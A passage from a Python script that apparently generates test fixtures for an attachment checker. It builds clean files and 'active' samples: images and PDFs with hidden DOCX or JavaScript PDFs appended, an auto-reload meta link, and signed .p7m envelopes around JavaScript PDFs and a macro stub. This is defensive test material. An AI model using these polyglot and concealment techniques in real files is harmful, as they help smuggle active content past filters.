       odf(altre=[("meta.xml", f'<office:document-meta {NS_ODF}><office:meta><meta:auto-reload xlink:href="http://esempio.invalid/" meta:delay="PT0S"/></office:meta></office:document-meta>')]),
       FUORI)
scrivi("puliti", "odt_immagine_interna.odt",
       odf('<text:p><draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"><draw:image xlink:href="Pictures/1.png"/></draw:frame></text:p>',
           altre=[("Pictures/1.png", b"\x89PNG\r\n\x1a\n")]))
scrivi("puliti", "ods_con_formule.ods", ods('<table:table-cell table:formula="of:=SUM([.A2:.A3])+[$Foglio2.B1]"/>'))


# Images, clean and with a second file behind them (polyglots).
def chunk(tipo, dati):
    return struct.pack(">I", len(dati)) + tipo + dati + struct.pack(">I", zlib.crc32(tipo + dati))


PNG = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b"")
JPEG = (b"\xff\xd8" + b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" +
        b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + bytes(range(1, 65)) +
        b"\xff\xda" + struct.pack(">H", 8) + b"\x01\x01\x00\x00\x3f\x00" + b"\x12\xff\x00\x34\xff\xd0\x56" + b"\xff\xd9")
TIFF = (b"II*\x00\x08\x00\x00\x00" + struct.pack("<H", 2) + struct.pack("<HHII", 273, 4, 1, 38) + struct.pack("<HHII", 279, 4, 1, 4) +
        struct.pack("<I", 0) + b"\x01\x02\x03\x04")
PDF_PULITO = pdf(CATALOGO, PAGINE)
PDF_JS = pdf(b"<< /Type /Catalog /OpenAction 2 0 R >>", JS)
DOCX = docx()
scrivi("puliti", "png_semplice.png", PNG)
scrivi("puliti", "jpeg_semplice.jpg", JPEG)
scrivi("puliti", "jpeg_con_video_in_coda.jpg", JPEG + struct.pack(">I", 24) + b"ftypmp42" + bytes(12))
scrivi("puliti", "tiff_semplice.tif", TIFF)
NASCOSTO = "nascosto"
scrivi("attivi", "pdf_con_docx_in_coda.pdf", PDF_PULITO + DOCX, NASCOSTO)
scrivi("attivi", "png_con_docx_in_coda.png", PNG + DOCX, NASCOSTO)
scrivi("attivi", "tiff_con_docx_in_coda.tif", TIFF + DOCX, NASCOSTO)
scrivi("attivi", "jpeg_con_docx_in_coda.jpg", JPEG + DOCX, NASCOSTO)
scrivi("attivi", "jpeg_con_pdf_in_coda.jpg", JPEG + PDF_JS, NASCOSTO)
scrivi("attivi", "jpeg_con_pdf_oltre_il_primo_kib.jpg", JPEG + bytes(2048) + PDF_JS, NASCOSTO)
scrivi("attivi", "png_dati_dopo_iend.png", PNG + b"\x00" * 64, "dopo la sua fine")
scrivi("attivi", "docx_con_un_pdf_in_testa.docx",
       pacchetto([("a.pdf", PDF_JS), ("[Content_Types].xml", TIPI.format(override("word/document.xml", DOC_MAIN))),
                  ("word/document.xml", f"<w:document {W}/>")], memorizzati=("a.pdf",)), NASCOSTO)


# Signed files (CAdES .p7m): envelopes written here by hand (DER; BER with indefinite lengths and the document in
# chunks, as `openssl cms -stream` writes it; Base64 with PEM lines), around clean and active documents. No
# signature is computed: the check opens envelopes, it does not verify them (tests/allegati in the Rust suite
# also signs files with OpenSSL at test time).
def tlv(tag, v):
    n = len(v)
    if n < 128:
        lunghezza = bytes([n])
    else:
        b = n.to_bytes((n.bit_length() + 7) // 8, "big")
        lunghezza = bytes([0x80 | len(b)]) + b
    return bytes([tag]) + lunghezza + v


OID_FIRMATO = bytes.fromhex("06092a864886f70d010702")
OID_DATI = bytes.fromhex("06092a864886f70d010701")


def busta_der(doc):
    eci = tlv(0x30, OID_DATI + tlv(0xA0, tlv(0x04, doc)))
    return tlv(0x30, OID_FIRMATO + tlv(0xA0, tlv(0x30, b"\x02\x01\x01" + tlv(0x31, b"") + eci + tlv(0x31, b""))))


def busta_ber(doc, pezzo=1000):
    fine = b"\x00\x00"
    pezzi = b"".join(tlv(0x04, doc[i:i + pezzo]) for i in range(0, len(doc), pezzo))
    eci = b"\x30\x80" + OID_DATI + b"\xa0\x80\x24\x80" + pezzi + fine * 3
    return b"\x30\x80" + OID_FIRMATO + b"\xa0\x80\x30\x80\x02\x01\x01\x31\x00" + eci + b"\x31\x00" + fine * 3


def busta_pem(doc):
    import base64
    testo = base64.b64encode(busta_der(doc))
    return b"-----BEGIN PKCS7-----\r\n" + b"\r\n".join(testo[i:i + 64] for i in range(0, len(testo), 64)) + b"\r\n-----END PKCS7-----\r\n"


scrivi("puliti", "pdf_semplice.pdf.p7m", busta_der(PDF_PULITO))
scrivi("puliti", "docx_semplice_ber.docx.p7m", busta_ber(DOCX))
scrivi("puliti", "pdf_semplice_pem.pdf.p7m", busta_pem(PDF_PULITO))
scrivi("puliti", "pdf_firmato_due_volte.pdf.p7m.p7m", busta_ber(busta_der(PDF_PULITO)))
scrivi("attivi", "pdf_javascript_firmato.pdf.p7m", busta_der(PDF_JS), "JavaScript")
scrivi("attivi", "pdf_javascript_firmato_ber.pdf.p7m", busta_ber(PDF_JS, 7), "JavaScript")
scrivi("attivi", "docx_macro_firmato.docx.p7m",
       busta_pem(pacchetto([("[Content_Types].xml", TIPI.format(override("word/document.xml", DOC_MAIN))),
                            ("word/document.xml", f"<w:document {W}/>"), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")])), "macro")
scrivi("attivi", "firma_staccata.pdf.p7m",
       tlv(0x30, OID_FIRMATO + tlv(0xA0, tlv(0x30, b"\x02\x01\x01" + tlv(0x31, b"") + tlv(0x30, OID_DATI) + tlv(0x31, b"")))),
       "non contiene il documento")

with open(os.path.join(QUI, "attesi.tsv"), "w") as f:
    f.write("# file\twords the refusal must contain (written by genera.py)\n" + "\n".join(sorted(ATTESI)) + "\n")
